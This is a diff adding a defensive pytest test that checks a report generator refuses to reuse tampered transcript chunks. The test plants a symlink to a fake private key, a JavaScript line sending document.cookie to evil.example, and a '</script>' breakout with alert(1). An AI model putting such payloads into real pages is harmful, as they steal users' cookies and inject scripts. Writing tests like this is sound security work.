@@ -334,6 +334,43 @@ def test_transcript_lines_are_kept_whole_and_bounded(tmp_path):
     assert json.loads(encode_transcript(read_transcript(tmp_path / "missing"), None))["missing"] is True
 
 
+@pytest.mark.parametrize("plant", ["link_to_a_secret", "script", "inline_breakout"])
+@pytest.mark.parametrize("single", [False, True])
+def test_a_planted_chunk_in_the_last_reports_folder_is_not_reused(flagged_run, tmp_path, plant, single):
+    """A run folder handed over keeps its last report's `report_files/` (a tarball keeps links and modification
+    times, and a chunk's name is a key of the attempts, sizes and times, not of its bytes). A chunk planted there
+    under the name the next report will ask for was reused as it stood: a link to the user's private key was
+    copied into the new report's folder, a script ran in the page, a `</script>` broke out of the inline block.
+    Now a chunk is reused only as a regular file holding exactly the chunk the report would write: its name, one
+    JSON value, no `<`; anything else is written afresh."""
+    from statebox.report.page import write_report_output
+
+    run_dir = tmp_path / "run"
+    shutil.copytree(flagged_run[0], run_dir)
+    out = run_dir / "report.html"
+    first = write_report_output(run_dir, out, split_over=0)
+    chunks = sorted(first.files_dir.glob("t-*.js"))
+    assert chunks
+    secret = tmp_path / "id_rsa"
+    secret.write_text("-----BEGIN PRIVATE KEY----- okapi-secret-9\n")
+    for chunk in chunks:
+        body = chunk.read_text()
+        chunk.unlink()
+        if plant == "link_to_a_secret":
+            chunk.symlink_to(secret)
+        elif plant == "script":
+            chunk.write_text(body.replace(");\n", "); fetch('https://evil.example/' + document.cookie);\n"))
+        else:
+            chunk.write_text(body[: body.index(",") + 1] + '"</script><script>alert(1)</script>");\n')
+    again = write_report_output(run_dir, out, single_file=single, split_over=0)
+    assert again.transcripts_reused == 0 and again.transcripts_written == first.transcripts_written
+    texts = [out.read_text()] + ([p.read_text() for p in again.files_dir.glob("*.js")] if again.files_dir else [])
+    for text in texts:
+        assert "okapi-secret-9" not in text and "evil.example" not in text and "alert(1)" not in text
+    if again.files_dir:
+        assert not any(p.is_symlink() for p in again.files_dir.iterdir())
+
+
 def test_next_report_links_unchanged_transcript_chunks(flagged_run, tmp_path):
     """A second report of an unchanged run copies no transcript; a changed events.jsonl (or a
     re-audited row) rewrites only the chunk that holds it, and the page still finds it by attempt id."""
